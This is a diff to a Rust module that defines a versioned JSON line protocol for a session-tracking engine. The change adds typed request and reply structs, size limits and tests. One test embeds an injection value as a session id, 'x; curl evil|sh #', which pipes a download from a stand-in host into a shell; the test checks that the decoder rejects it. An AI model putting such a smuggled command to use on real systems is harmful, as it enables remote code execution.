@@ -5,17 +5,32 @@
 //! `{"v": 1, "op": "ping"}`, `{"v": 1, "op": "history", "limit": 50}`, `{"v": 1, "op": "watch"}`.
 //! Reply: `{"v": 1, "ok": true, "result": ...}` or
 //! `{"v": 1, "ok": false, "error": {"code": "...", "message": "..."}}`.
-//! A `watch` reply is followed by one line per change (`{"kind": "added" | "changed" | "removed", ...}`)
-//! until the client hangs up.
+//! A `watch` reply is followed by one line per change (`{"kind": "added" | "changed" | "removed", ...}`,
+//! or `{"kind": "resync", "sessions": [...]}` after the client fell behind) until the client
+//! hangs up.
+//!
+//! Requests are decoded straight into typed structs, never into a generic JSON tree: a tree of a
+//! 1 MiB line costs many times the line, and it was cloned once more on the way. Each request
+//! line is bounded ([`MAX_LINE`]), each observation field has its own limit
+//! ([`crate::model::FieldLimit`]), and a session id that breaks the rule
+//! ([`crate::model::validate_session_id`]) is refused here already, before the registry sees it.
+//! Replies are typed too, on both sides ([`ObserveReply`], [`SessionList`], [`PingInfo`],
+//! [`WatchLine`]), so the engine and its clients cannot drift apart through hand-built JSON.
 
+use serde::de::{DeserializeOwned, IgnoredAny};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
 use crate::model::{Observation, Session};
+use crate::registry::{ObserveOutcome, SessionChange};
+use crate::transition::Ignored;
 
 pub const PROTOCOL_VERSION: u32 = 1;
-/// The longest line either side accepts, newline included.
+/// The longest request line the engine accepts, newline included. Replies have no size limit:
+/// a client reads them as a stream, bounded by its deadline.
 pub const MAX_LINE: usize = 1 << 20;
+/// The most sessions one `history` request returns; a larger `limit` is lowered to this.
+pub const MAX_HISTORY_LIMIT: usize = 10_000;
 
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 #[serde(tag = "op", rename_all = "snake_case")]
@@ -46,7 +61,12 @@ pub enum ErrorCode {
     UnsupportedVersion,
     BadRequest,
     InvalidObservation,
+    /// The engine serves as many connections (or watchers) as it will; try again later.
+    Busy,
     Internal,
+    /// A code this client does not know (a newer engine).
+    #[serde(other)]
+    Unknown,
 }
 
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -55,6 +75,8 @@ pub struct ErrorBody {
     pub message: String,
 }
 
+/// A reply as a client reads it: the result stays untyped until [`Reply::into_result`] names
+/// its type. Use [`TypedReply`] to read one straight into its type.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct Reply {
     pub v: u32,
@@ -63,6 +85,16 @@ pub struct Reply {
     pub result: Option<Value>,
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub error: Option<ErrorBody>,
+}
+
+/// Why a reply carries no result of the expected type.
+#[derive(Debug, Clone, PartialEq, thiserror::Error)]
+pub enum ReplyError {
+    /// The engine answered with an error.
+    #[error("{} ({:?})", .0.message, .0.code)]
+    Refused(ErrorBody),
+    #[error("the engine's reply is not what was asked for: {0}")]
+    Malformed(String),
 }
 
 impl Reply {
@@ -86,6 +118,56 @@ impl Reply {
             }),
         }
     }
+
+    /// The result as `T`, or why there is none.
+    pub fn into_result<T: DeserializeOwned>(self) -> Result<T, ReplyError> {
+        TypedReply {
+            v: self.v,
+            ok: self.ok,
+            result: self
+                .result
+                .map(serde_json::from_value::<T>)
+                .transpose()
+                .map_err(|e| ReplyError::Malformed(e.to_string()))?,
+            error: self.error,
+        }
+        .into_result()
+    }
+}
+
+/// A reply whose result has a known type, on both sides: the engine writes one without building a
+/// JSON tree first, and a client reads one straight from the socket.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct TypedReply<T> {
+    pub v: u32,
+    pub ok: bool,
+    #[serde(default = "Option::default", skip_serializing_if = "Option::is_none")]
+    pub result: Option<T>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub error: Option<ErrorBody>,
+}
+
+impl<T> TypedReply<T> {
+    pub fn ok(result: T) -> Self {
+        TypedReply {
+            v: PROTOCOL_VERSION,
+            ok: true,
+            result: Some(result),
+            error: None,
+        }
+    }
+
+    pub fn into_result(self) -> Result<T, ReplyError> {
+        match (self.ok, self.result, self.error) {
+            (true, Some(result), _) => Ok(result),
+            (true, None, _) => Err(ReplyError::Malformed("an ok reply with no result".into())),
+            (false, _, Some(error)) => Err(ReplyError::Refused(error)),
+            (false, _, None) => Err(ReplyError::Refused(ErrorBody {
+                code: ErrorCode::Unknown,
+                message: "the engine refused the request".into(),
+            })),
+        }
+    }
 }
 
 /// `ping`'s result: who is serving.
@@ -98,41 +180,194 @@ pub struct PingInfo {
     pub sessions: usize,
 }
 
-/// `list`'s result.
+/// `list`'s and `history`'s result, and the first reply of `watch`.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct SessionList {
     pub sessions: Vec<Session>,
 }
 
+/// What the engine did with an observation: `observe`'s result.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ObserveReply {
+    pub outcome: OutcomeKind,
+    /// Set with `outcome: "ignored"`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub reason: Option<IgnoreReason>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum OutcomeKind {
+    /// Something people see changed.
+    Changed,
+    /// Accepted as a sign of life; nothing visible moved.
+    Quiet,
+    /// Already applied (same sequence id).
+    Duplicate,
+    /// Changed nothing; `reason` says why.
+    Ignored,
+}
+
+/// Why an observation changed nothing (the wire names of [`Ignored`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum IgnoreReason {
+    ReplacedPid,
+    EndedSession,
+    EndOfUnknownSession,
+    TurnOfUnknownThread,
+    /// A reason this client does not know (a newer engine).
+    #[serde(other)]
+    Other,
+}
+
+impl IgnoreReason {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            IgnoreReason::ReplacedPid => "a newer process replaced the one that sent it",
+            IgnoreReason::EndedSession => "the session has ended and this does not restart it",
+            IgnoreReason::EndOfUnknownSession => "an end of a session never seen",
+            IgnoreReason::TurnOfUnknownThread => "a finished turn of a thread never seen",
+            IgnoreReason::Other => "a reason this version does not know",
+        }
+    }
+}
+
+impl From<Ignored> for IgnoreReason {
+    fn from(why: Ignored) -> Self {
+        match why {
+            Ignored::ReplacedPid => IgnoreReason::ReplacedPid,
+            Ignored::EndedSession => IgnoreReason::EndedSession,
+            Ignored::EndOfUnknownSession => IgnoreReason::EndOfUnknownSession,
+            Ignored::TurnOfUnknownThread => IgnoreReason::TurnOfUnknownThread,
+        }
+    }
+}
+
+impl From<ObserveOutcome> for ObserveReply {
+    fn from(outcome: ObserveOutcome) -> Self {
+        let (outcome, reason) = match outcome {
+            ObserveOutcome::Changed => (OutcomeKind::Changed, None),
+            ObserveOutcome::Quiet => (OutcomeKind::Quiet, None),
+            ObserveOutcome::Duplicate => (OutcomeKind::Duplicate, None),
+            ObserveOutcome::Ignored(why) => (OutcomeKind::Ignored, Some(why.into())),
+        };
+        ObserveReply { outcome, reason }
+    }
+}
+
+/// A whole list of sessions inside a `watch` stream: the CLI's `watch --json` first line
+/// (`snapshot`), and the engine's fresh list for a client that fell behind (`resync`).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum SessionsLine {
+    Snapshot { sessions: Vec<Session> },
+    Resync { sessions: Vec<Session> },
+}
+
+/// One line of a `watch` stream after its first reply: a change, or a whole list.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(untagged)]
+#[allow(clippy::large_enum_variant)] // one per printed line
+pub enum WatchLine {
+    Change(SessionChange),
+    Sessions(SessionsLine),
+}
+
 /// Encodes a request as one line (with its version and the trailing newline).
 pub fn encode_request(request: &Request) -> Result<Vec<u8>, serde_json::Error> {
-    let mut value = serde_json::to_value(request)?;
-    if let Value::Object(map) = &mut value {
-        map.insert("v".into(), Value::from(PROTOCOL_VERSION));
+    #[derive(Serialize)]
+    struct Line<'a> {
+        v: u32,
+        #[serde(flatten)]
+        request: &'a Request,
     }
-    let mut line = serde_json::to_vec(&value)?;
+    let mut line = serde_json::to_vec(&Line {
+        v: PROTOCOL_VERSION,
+        request,
+    })?;
     line.push(b'\n');
     Ok(line)
 }
 
+/// The part of every request read before its body: the version and the op. Nothing else of the
+/// line is kept (unknown fields are skipped without being stored).
+#[derive(Deserialize)]
+struct Envelope {
+    #[serde(default)]
+    v: Option<Version>,
+    #[serde(default)]
+    op: Option<OpName>,
+}
+
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum Version {
+    Number(u64),
+    Other(IgnoredAny),
+}
+
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum OpName {
+    Known(Op),
+    /// Kept only to be named in the error, cut to a short prefix.
+    Unknown(String),
+    Other(IgnoredAny),
+}
+
+#[derive(Debug, Clone, Copy, Deserialize)]
+#[serde(rename_all = "snake_case")]
+enum Op {
+    Observe,
+    List,
+    History,
+    Ping,
+    Watch,
+}
+
+#[derive(Deserialize)]
+struct ObserveBody {
+    observation: Observation,
+}
+
+#[derive(Deserialize)]
+struct HistoryBody {
+    #[serde(default = "default_history_limit")]
+    limit: usize,
+}
+
 /// Decodes one request line, with an error reply ready for anything wrong with it.
+///
+/// An observation comes out admitted ([`Observation::admit`]): its session id is valid and no
+/// field is over its limit. A `history` limit over [`MAX_HISTORY_LIMIT`] is lowered to it.
 pub fn decode_request(line: &[u8]) -> Result<Request, Reply> {
-    let value: Value = serde_json::from_slice(line)
-        .map_err(|e| Reply::error(ErrorCode::BadJson, format!("not JSON: {e}")))?;
-    let Value::Object(map) = &value else {
+    // Syntax first, without building anything, so `bad_json` means exactly that.
+    if let Err(e) = serde_json::from_slice::<IgnoredAny>(line) {
+        return Err(Reply::error(ErrorCode::BadJson, format!("not JSON: {e}")));
+    }
+    if line.iter().find(|b| !b.is_ascii_whitespace()) != Some(&b'{') {
         return Err(Reply::error(
             ErrorCode::BadRequest,
             "a request is a JSON object",
         ));
-    };
-    match map.get("v").and_then(Value::as_u64) {
-        Some(v) if v == u64::from(PROTOCOL_VERSION) => {}
-        Some(v) => {
+    }
+    let envelope: Envelope = serde_json::from_slice(line)
+        .map_err(|e| Reply::error(ErrorCode::BadRequest, format!("bad request: {e}")))?;
+    match envelope.v {
+        Some(Version::Number(v)) if v == u64::from(PROTOCOL_VERSION) => {}
+        Some(Version::Number(v)) => {
             return Err(Reply::error(
                 ErrorCode::UnsupportedVersion,
                 format!(
                     "protocol version {v} is not supported (this engine speaks {PROTOCOL_VERSION})"
                 ),
+            ))
+        }
+        Some(Version::Other(_)) => {
+            return Err(Reply::error(
+                ErrorCode::UnsupportedVersion,
+                "the protocol version \"v\" is not a number",
             ))
         }
         None => {
@@ -142,21 +377,60 @@ pub fn decode_request(line: &[u8]) -> Result<Request, Reply> {
             ))
         }
     }
-    let op = map.get("op").and_then(Value::as_str).unwrap_or("");
-    let code = if op == "observe" {
-        ErrorCode::InvalidObservation
-    } else {
-        ErrorCode::BadRequest
+    let op = match envelope.op {
+        Some(OpName::Known(op)) => op,
+        Some(OpName::Unknown(name)) => {
+            let shown: String = name.chars().take(40).collect();
+            return Err(Reply::error(
+                ErrorCode::BadRequest,
+                format!("unknown op {shown:?} (expected observe, list, history, ping or watch)"),
+            ));
+        }
+        Some(OpName::Other(_)) | None => {
+            return Err(Reply::error(
+                ErrorCode::BadRequest,
+                "missing \"op\" (observe, list, history, ping or watch)",
+            ))
+        }
     };
-    serde_json::from_value::<Request>(value.clone())
-        .map_err(|e| Reply::error(code, format!("bad {op:?} request: {e}")))
+    match op {
+        Op::Observe => {
+            let body: ObserveBody = serde_json::from_slice(line).map_err(|e| {
+                Reply::error(
+                    ErrorCode::InvalidObservation,
+                    format!("bad \"observe\" request: {e}"),
+                )
+            })?;
+            let observation = body.observation.admit().map_err(|e| {
+                Reply::error(
+                    ErrorCode::InvalidObservation,
+                    format!("bad \"observe\" request: {e}"),
+                )
+            })?;
+            Ok(Request::Observe { observation })
+        }
+        Op::History => {
+            let body: HistoryBody = serde_json::from_slice(line).map_err(|e| {
+                Reply::error(
+                    ErrorCode::BadRequest,
+                    format!("bad \"history\" request: {e}"),
+                )
+            })?;
+            Ok(Request::History {
+                limit: body.limit.min(MAX_HISTORY_LIMIT),
+            })
+        }
+        Op::List => Ok(Request::List),
+        Op::Ping => Ok(Request::Ping),
+        Op::Watch => Ok(Request::Watch),
+    }
 }
 
 #[cfg(test)]
 #[allow(clippy::unwrap_used)]
 mod tests {
     use super::*;
-    use crate::model::{Agent, EventKind};
+    use crate::model::{Agent, EventKind, FieldLimit, CUT_MARK};
 
     #[test]
     fn a_request_round_trips_through_one_line() {
@@ -169,6 +443,32 @@ mod tests {
         assert_eq!(line.iter().filter(|b| **b == b'\n').count(), 1);
         let back = decode_request(&line).unwrap();
         assert_eq!(back, Request::Observe { observation: obs });
+        assert!(String::from_utf8_lossy(&line).starts_with(r#"{"v":1,"op":"observe""#));
+    }
+
+    #[test]
+    fn the_documented_requests_still_decode() {
+        for (line, want) in [
+            (r#"{"v":1,"op":"list"}"#, Request::List),
+            (r#"{"v": 1, "op": "ping"}"#, Request::Ping),
+            (
+                r#"{"v":1,"op":"watch","extra":[1,{"a":2}]}"#,
+                Request::Watch,
+            ),
+            (
+                r#"{"op":"history","v":1,"limit":7}"#,
+                Request::History { limit: 7 },
+            ),
+            (r#"{"v":1,"op":"history"}"#, Request::History { limit: 50 }),
+            (
+                r#"{"v":1,"op":"history","limit":99999999}"#,
+                Request::History {
+                    limit: MAX_HISTORY_LIMIT,
+                },
+            ),
+        ] {
+            assert_eq!(decode_request(line.as_bytes()), Ok(want), "{line}");
+        }
     }
 
     #[test]
@@ -182,12 +482,23 @@ mod tests {
         };
         assert_eq!(code("not json"), ErrorCode::BadJson);
         assert_eq!(code("[1]"), ErrorCode::BadRequest);
+        assert_eq!(code("\"list\""), ErrorCode::BadRequest);
         assert_eq!(code(r#"{"op":"list"}"#), ErrorCode::UnsupportedVersion);
         assert_eq!(
             code(r#"{"v":2,"op":"list"}"#),
             ErrorCode::UnsupportedVersion
         );
+        assert_eq!(
+            code(r#"{"v":"1","op":"list"}"#),
+            ErrorCode::UnsupportedVersion
+        );
         assert_eq!(code(r#"{"v":1,"op":"dance"}"#), ErrorCode::BadRequest);
+        assert_eq!(code(r#"{"v":1,"op":7}"#), ErrorCode::BadRequest);
+        assert_eq!(code(r#"{"v":1}"#), ErrorCode::BadRequest);
+        assert_eq!(
+            code(r#"{"v":1,"op":"history","limit":-1}"#),
+            ErrorCode::BadRequest
+        );
         assert_eq!(
             code(
                 r#"{"v":1,"op":"observe","observation":{"session_id":"s","agent":"claude","event":"Bogus","at":"2026-01-01T00:00:00Z"}}"#
@@ -199,6 +510,66 @@ mod tests {
                 r#"{"v":1,"op":"observe","observation":{"agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z"}}"#
             ),
             ErrorCode::InvalidObservation
+        );
+    }
+
+    #[test]
+    fn a_crafted_session_id_is_refused_at_the_socket_with_the_rule() {
+        let reply = decode_request(
+            br#"{"v":1,"op":"observe","observation":{"session_id":"x; curl evil|sh #","agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z"}}"#,
+        )
+        .unwrap_err();
+        let error = reply.error.unwrap();
+        assert_eq!(error.code, ErrorCode::InvalidObservation);
+        assert!(
+            error.message.contains("ASCII letters, digits"),
+            "{}",
+            error.message
+        );
+    }
+
+    #[test]
+    fn an_over_long_cwd_is_cut_and_marked_at_the_socket() {
+        let cwd = "/d".repeat(400_000);
+        let line = format!(
+            r#"{{"v":1,"op":"observe","observation":{{"session_id":"s","agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z","cwd":"{cwd}"}}}}"#
+        );
+        let Ok(Request::Observe { observation }) = decode_request(line.as_bytes()) else {
+            panic!("decodes");
+        };
+        let got = observation.cwd.unwrap();
+        assert!(got.len() <= FieldLimit::Path.bytes());
+        assert!(got.ends_with(CUT_MARK));
+    }
+
+    #[test]
+    fn observe_replies_are_typed_with_snake_case_reasons() {
+        let reply = ObserveReply::from(ObserveOutcome::Ignored(Ignored::EndedSession));
+        let text = serde_json::to_string(&TypedReply::ok(reply)).unwrap();
+        assert_eq!(
+            text,
+            r#"{"v":1,"ok":true,"result":{"outcome":"ignored","reason":"ended_session"}}"#
+        );
+        let back: Reply = serde_json::from_str(&text).unwrap();
+        assert_eq!(back.into_result::<ObserveReply>(), Ok(reply));
+        let changed = serde_json::to_string(&ObserveReply::from(ObserveOutcome::Changed)).unwrap();
+        assert_eq!(changed, r#"{"outcome":"changed"}"#);
+    }
+
+    #[test]
+    fn watch_lines_tell_changes_from_whole_lists() {
+        let resync: WatchLine = serde_json::from_str(r#"{"kind":"resync","sessions":[]}"#).unwrap();
+        assert_eq!(
+            resync,
+            WatchLine::Sessions(SessionsLine::Resync { sessions: vec![] })
+        );
+        let removed: WatchLine =
+            serde_json::from_str(r#"{"kind":"removed","session_id":"s"}"#).unwrap();
+        assert_eq!(
+            removed,
+            WatchLine::Change(SessionChange::Removed {
+                session_id: "s".into()
+            })
         );
     }
 }
